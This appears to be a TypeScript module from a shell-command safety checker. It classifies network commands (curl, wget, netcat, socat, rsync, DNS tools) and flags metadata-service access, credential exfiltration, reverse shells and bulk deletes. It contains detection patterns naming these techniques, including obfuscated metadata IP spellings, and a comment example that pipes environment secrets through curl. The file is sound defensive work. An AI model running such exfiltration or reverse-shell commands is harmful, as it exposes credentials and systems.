import { hasFlag, optionValue, optionValues, positionals } from '../argv.ts';
import type { Invocation, Stream } from '../context.ts';
import { emit, literalWord } from '../context.ts';
import { classifyPath, normalizePath } from '../paths.ts';
import { deleteTarget } from './files.ts';
import { commandHook } from './hooks.ts';
import { checkWriteTarget } from './targets.ts';
import type { Handler } from './types.ts';

const METADATA =
  /(169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2|fd00:ec2::254|100\.100\.100\.200)/;
/** Metadata services by address, compared after the host is normalised to dotted decimal. */
const METADATA_ADDRESSES = new Set(['169.254.169.254', '169.254.170.2', '100.100.100.200']);

/** The host of a URL-like argument (`http://h:80/x`, `h/x`, `[::1]:80`), lower-cased. */
function hostOf(value: string): string | undefined {
  const m = value.match(/^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/?#]*@)?(\[[^\]]*\]|[^/:?#]+)/i);
  return m?.[1]?.toLowerCase();
}

/**
 * An IPv4 address written any way `inet_aton` accepts it — `2852039166`, `0xa9fea9fe`,
 * `0251.0376.0251.0376`, `169.254.43518` — or mapped into IPv6 (`[::ffff:a9fe:a9fe]`), as
 * dotted decimal. Undefined when the host is a name.
 */
function ipv4Of(host: string): string | undefined {
  const mapped = host.match(/^\[(?:0*:)*:?ffff:(.+)\]$/);
  if (mapped) {
    const rest = mapped[1] as string;
    const hex = rest.match(/^([0-9a-f]{1,4}):([0-9a-f]{1,4})$/);
    if (hex)
      return dotted(Number.parseInt(hex[1] as string, 16) * 65536 + Number.parseInt(hex[2] as string, 16));
    return ipv4Of(rest);
  }
  const parts = host.split('.');
  if (parts.length > 4 || parts.some((p) => !/^(0x[0-9a-f]+|0[0-7]*|[1-9][0-9]*)$/.test(p))) return undefined;
  const numbers = parts.map((p) =>
    p.startsWith('0x') ? Number.parseInt(p, 16) : p.startsWith('0') ? Number.parseInt(p, 8) : Number(p),
  );
  const last = numbers.pop() as number;
  if (numbers.some((n) => n > 255) || last >= 2 ** (8 * (4 - numbers.length))) return undefined;
  const value = numbers.reduce((acc, n, i) => acc + n * 2 ** (8 * (3 - i)), 0) + last;
  return dotted(value);
}

function dotted(value: number): string {
  return [24, 16, 8, 0].map((shift) => Math.floor(value / 2 ** shift) % 256).join('.');
}

/** Whether a URL points at a cloud metadata service, however its address is spelled. */
function isMetadataUrl(value: string): boolean {
  if (METADATA.test(value)) return true;
  const host = hostOf(value);
  const address = host === undefined ? undefined : ipv4Of(host);
  return address !== undefined && METADATA_ADDRESSES.has(address);
}

/**
 * A request that deletes many resources at once: an HTTP DELETE of a wildcard or `_all`
 * (`DELETE /logs-2024.*`), or a delete-by-query endpoint (Elasticsearch, OpenSearch).
 */
function bulkDelete(method: string, urls: readonly string[]): boolean {
  const paths = urls.map((u) => u.replace(/^[a-z][a-z0-9+.-]*:\/\/[^/]*/i, '').split('?')[0] ?? '');
  if (paths.some((p) => /\/_delete_by_query\/?$/.test(p))) return true;
  return method === 'DELETE' && paths.some((p) => /\*|(^|\/)_all(\/|$)/.test(p));
}
const CURL_VALUED = [
  '-o',
  '--output',
  '-d',
  '--data',
  '--data-binary',
  '--data-raw',
  '--data-urlencode',
  '-F',
  '--form',
  '-T',
  '--upload-file',
  '-H',
  '--header',
  '-u',
  '--user',
  '-X',
  '--request',
  '-A',
  '--user-agent',
  '-e',
  '--referer',
  '-b',
  '--cookie',
  '-c',
  '--cookie-jar',
  '-x',
  '--proxy',
  '-m',
  '--max-time',
  '--connect-timeout',
  '-w',
  '--write-out',
  '-K',
  '--config',
  '--cacert',
  '--cert',
  '--key',
  '-r',
  '--range',
  '-y',
  '-Y',
  '-z',
  '--retry',
  '--json',
  '-E',
];

/** Whether the upload data of a curl/wget argument names a local file (`@file`, `<file`). */
function uploadedFile(value: string): string | undefined {
  const at = value.match(/(?:^|=)[@<](.+)$/);
  return at?.[1];
}

/** Files whose upload is exfiltration: credentials, and anything from system, home or log paths. */
function sensitiveUpload(file: string): boolean {
  const cls = classifyPath(file);
  return (
    ['credential', 'privilege', 'system', 'root', 'home', 'history', 'log'].includes(cls) ||
    /(^|\/)\.env$/.test(file)
  );
}

function checkStdinToNetwork(inv: Invocation, sink: string) {
  const stdin = inv.stdin;
  if (stdin.kind === 'sensitive')
    emit(inv.session, 'shell.exfiltration.sensitive', `${stdin.what} sent to ${sink}`);
  else if (stdin.kind === 'file' && !stdin.path.startsWith('/dev/'))
    emit(inv.session, 'shell.exfiltration.raw-socket', `local data (${stdin.path}) piped to ${sink}`);
}

const curl: Handler = (inv) => {
  const s = inv.session;
  const urls = positionals(inv.argv, CURL_VALUED);
  const detail = `${inv.name} ${inv.argv.join(' ')}`;
  if (urls.some(isMetadataUrl) || inv.argv.some((a) => METADATA.test(a)))
    emit(s, 'shell.credential.metadata', detail);
  const uploads = [
    ...optionValues(
      inv.argv,
      '-d',
      '--data',
      '--data-binary',
      '--data-urlencode',
      '-F',
      '--form',
      '--json',
    ).map(uploadedFile),
    ...optionValues(inv.argv, '-T', '--upload-file'),
  ].filter((f): f is string => Boolean(f));
  for (const file of uploads) {
    if (file === '-') checkStdinToNetwork(inv, 'curl');
    else if (sensitiveUpload(file)) emit(s, 'shell.exfiltration.sensitive', `${file} uploaded by curl`);
    else emit(s, 'shell.net.send', `curl uploads ${file}`);
  }
  if (inv.stdin.kind === 'sensitive') checkStdinToNetwork(inv, 'curl');
  const method = (optionValue(inv.argv, '-X', '--request') ?? '').toUpperCase();
  const sendsData = inv.argv.some(
    (a) =>
      /^(-d|--data.*|-F|--form.*|--json|-T|--upload-file)$/.test(a.split('=')[0] ?? '') || /^-[dFT]./.test(a),
  );
  const secret = inv.args.flatMap((w) => w.streams).find((stream) => stream.kind === 'sensitive');
  if (secret?.kind === 'sensitive')
    // `curl "https://x/?d=$(env | base64)"`: the secrets travel in the request itself.
    emit(s, 'shell.exfiltration.sensitive', `${secret.what} sent by curl`);
  else if (
    urls.some((u) => /\$\(|`/.test(u)) ||
    inv.args.some((w) => w.streams.length > 0 && !w.value.startsWith('-'))
  ) {
    emit(s, 'shell.exfiltration.in-url', detail);
  }
  if (bulkDelete(method, urls)) emit(s, 'shell.net.delete-bulk', detail);
  else if (method === 'DELETE') emit(s, 'shell.net.delete', detail);
  else if (sendsData || /^(POST|PUT|PATCH)$/.test(method)) {
    if (uploads.length === 0) emit(s, 'shell.net.send', detail);
  }
  const output = optionValue(inv.argv, '-o', '--output');
  const remoteName = inv.argv.some(
    (a) => a === '-O' || a === '--remote-name' || /^-[a-zA-Z]*O[a-zA-Z]*$/.test(a),
  );
  // Where the file lands is judged like any other write (~/.ssh/authorized_keys, /etc/cron.d).
  const outputDir = optionValue(inv.argv, '--output-dir');
  if (outputDir) checkWriteTarget(s, outputDir, false, `${inv.name} --output-dir ${outputDir}`);
  // `-o /dev/null` discards the body (a health check reading the status code): nothing is saved.
  if (output === '/dev/null') return undefined;
  if (output && output !== '-') {
    s.downloaded.add(normalizePath(output));
    emit(s, 'shell.net.download', `${inv.name} saves ${output}`);
    checkWriteTarget(s, output, false, `${inv.name} -o ${output}`);
    return undefined;
  }
  if (remoteName) {
    for (const url of urls) s.downloaded.add(normalizePath(url.split('?')[0]?.split('/').pop() ?? ''));
    emit(s, 'shell.net.download', detail);
    return undefined;
  }
  return urls.length > 0 ? ({ kind: 'remote', from: urls[0] as string } satisfies Stream) : undefined;
};

const wget: Handler = (inv) => {
  const s = inv.session;
  const detail = `wget ${inv.argv.join(' ')}`;
  const urls = positionals(inv.argv, [
    '-O',
    '--output-document',
    '-P',
    '--directory-prefix',
    '-o',
    '--output-file',
    '-U',
    '--user-agent',
    '--header',
    '--post-data',
    '--post-file',
    '--body-file',
    '--method',
    '-t',
    '--tries',
    '-T',
    '--timeout',
    '-e',
    '--execute',
  ]);
  if (urls.some(isMetadataUrl)) emit(s, 'shell.credential.metadata', detail);
  for (const file of optionValues(inv.argv, '--post-file', '--body-file')) {
    if (sensitiveUpload(file)) emit(s, 'shell.exfiltration.sensitive', `${file} uploaded by wget`);
    else emit(s, 'shell.net.send', `wget uploads ${file}`);
  }
  if (inv.argv.some((a) => a.startsWith('--post-data') || a.startsWith('--method')))
    emit(s, 'shell.net.send', detail);
  const output = optionValue(inv.argv, '-O', '--output-document');
  const quietStdout = inv.argv.some(
    (a, i) =>
      /^-[a-zA-Z]*O-$/.test(a) ||
      a === '--output-document=-' ||
      (/^-[a-zA-Z]*O$/.test(a) && inv.argv[i + 1] === '-'),
  );
  if (output === '-' || quietStdout)
    return urls.length > 0 ? { kind: 'remote', from: urls[0] as string } : undefined;
  if (output) s.downloaded.add(normalizePath(output));
  else for (const url of urls) s.downloaded.add(normalizePath(url.split('?')[0]?.split('/').pop() ?? ''));
  emit(s, 'shell.net.download', detail);
  const prefix = optionValue(inv.argv, '-P', '--directory-prefix');
  if (output) checkWriteTarget(s, output, false, `wget -O ${output}`);
  if (prefix) checkWriteTarget(s, prefix, false, `wget -P ${prefix}`);
  return undefined;
};

const netcat: Handler = (inv) => {
  const s = inv.session;
  const detail = `${inv.name} ${inv.argv.join(' ')}`;
  if (inv.argv.some((a) => /^-[a-zA-Z]*[ec]$/.test(a) || /^--(exec|sh-exec|lua-exec)/.test(a)))
    return void emit(s, 'shell.net.reverse-shell', detail);
  if (hasFlag(inv.argv, 'l', ['--listen'])) emit(s, 'shell.net.listen', detail);
  checkStdinToNetwork(inv, inv.name);
  if (
    inv.stdin.kind === 'file' ||
    inv.stdin.kind === 'literal' ||
    inv.redirects.some((r) => r.operator === '<')
  ) {
    emit(s, 'shell.exfiltration.raw-socket', detail);
  } else if (!hasFlag(inv.argv, 'z') && !hasFlag(inv.argv, 'l', ['--listen']))
    emit(s, 'shell.net.raw-socket', detail);
  return { kind: 'remote', from: inv.name };
};

const socat: Handler = (inv) => {
  const joined = inv.argv.join(' ');
  if (/\b(exec|system):/i.test(joined))
    return void emit(inv.session, 'shell.net.reverse-shell', `socat ${joined}`);
  checkStdinToNetwork(inv, 'socat');
  emit(inv.session, 'shell.net.raw-socket', `socat ${joined}`);
  return { kind: 'remote', from: 'socat' };
};

const telnet: Handler = (inv) => {
  checkStdinToNetwork(inv, 'telnet');
  emit(inv.session, 'shell.net.raw-socket', `telnet ${inv.argv.join(' ')}`);
  return { kind: 'remote', from: 'telnet' };
};

/** scp/rsync: copying to a remote host sends local data off the machine. */
/** rsync's remote shell (`-e`, `--rsh`) and scp's (`-S`) run on this machine; ssh is what they are for. */
function remoteShellHooks(inv: Invocation) {
  const options = inv.name === 'scp' ? ['-S'] : ['-e', '--rsh'];
  for (const text of optionValues(inv.argv, ...options))
    commandHook(inv.session, inv.scope, text, `${inv.name} ${options[0]}`, /^(ssh|plink|rsh)$/);
}

const copyRemote: Handler = (inv) => {
  remoteShellHooks(inv);
  const operands = positionals(inv.argv, [
    '-P',
    '-p',
    '-i',
    '-o',
    '-F',
    '-J',
    '-e',
    '--rsh',
    '-l',
    '-S',
    '-c',
    '--exclude',
    '--include',
    '--filter',
    '-f',
    '--port',
  ]);
  if (operands.length < 2) return;
  const destination = operands[operands.length - 1] as string;
  const sources = operands.slice(0, -1);
  const remote = (p: string) => /^[^/]*:/.test(p) || p.startsWith('rsync://');
  const detail = `${inv.name} ${operands.join(' ')}`;
  const deleting = inv.name === 'rsync' && inv.argv.some((a) => a.startsWith('--delete'));
  if (deleting && remote(destination)) {
    // `--delete` removes whatever the destination has that the source lacks: from an empty or
    // wrong source, the remote tree.
    emit(inv.session, 'shell.rsync.delete-remote', `${detail} --delete`);
  } else if (deleting) {
    deleteTarget({ ...inv, name: 'rsync --delete' }, literalWord(destination), true);
  }
  if (deleting) {
    if (sources.some((p) => classifyPath(p) === 'credential') && remote(destination))
      emit(inv.session, 'shell.exfiltration.sensitive', detail);
  } else if (remote(destination) && sources.some((p) => !remote(p))) {
    if (sources.some((p) => classifyPath(p) === 'credential'))
      emit(inv.session, 'shell.exfiltration.sensitive', detail);
    else emit(inv.session, 'shell.net.copy-remote', detail);
  } else {
    if (sources.some(remote)) emit(inv.session, 'shell.net.download', detail);
    if (!remote(destination))
      checkWriteTarget(inv.session, destination, false, `${inv.name} into ${destination}`);
  }
};

const dns: Handler = (inv) => {
  // A hostname built from a substitution carries data out through DNS.
  if (inv.args.some((w) => w.streams.length > 0 || (w.unresolved && /\$/.test(w.text)))) {
    emit(inv.session, 'shell.exfiltration.dns', `${inv.name} ${inv.argv.join(' ')}`);
  }
};

const ftp: Handler = (inv) => {
  emit(inv.session, 'shell.net.copy-remote', `${inv.name} ${inv.argv.join(' ')}`);
};

/** HTTPie: `http [METHOD] URL [items]`. */
const httpie: Handler = (inv) => {
  const [first = '', second = ''] = positionals(inv.argv, ['-a', '--auth', '-o', '--output', '--session']);
  const url = /^[A-Z]+$/.test(first) ? second : first;
  const method = /^[A-Z]+$/.test(first)
    ? first
    : inv.argv.some((a) => /[^:=]=|:=|@/.test(a) && !a.startsWith('-'))
      ? 'POST'
      : 'GET';
  const detail = `${inv.name} ${inv.argv.join(' ')}`;
  if (inv.argv.some(isMetadataUrl)) emit(inv.session, 'shell.credential.metadata', detail);
  if (bulkDelete(method, [url])) emit(inv.session, 'shell.net.delete-bulk', detail);
  else if (method === 'DELETE') emit(inv.session, 'shell.net.delete', detail);
  else if (method !== 'GET' && method !== 'HEAD' && method !== 'OPTIONS')
    emit(inv.session, 'shell.net.send', detail);
  return { kind: 'remote', from: first };
};

const opensslClient: Handler = (inv) => {
  if (inv.argv[0] !== 's_client') return undefined;
  checkStdinToNetwork(inv, 'openssl s_client');
  if (inv.redirects.some((r) => r.operator === '<' && classifyPath(r.target.value) === 'credential')) {
    emit(inv.session, 'shell.exfiltration.sensitive', 'openssl s_client sends a credential file');
  }
  return { kind: 'remote', from: 'openssl s_client' };
};

export const NETWORK_HANDLERS: Record<string, Handler> = {
  openssl: opensslClient,
  http: httpie,
  https: httpie,
  curl,
  wget,
  nc: netcat,
  ncat: netcat,
  netcat,
  socat,
  telnet,
  scp: copyRemote,
  rsync: copyRemote,
  sftp: ftp,
  ftp,
  lftp: ftp,
  dig: dns,
  nslookup: dns,
  host: dns,
  ping: dns,
};
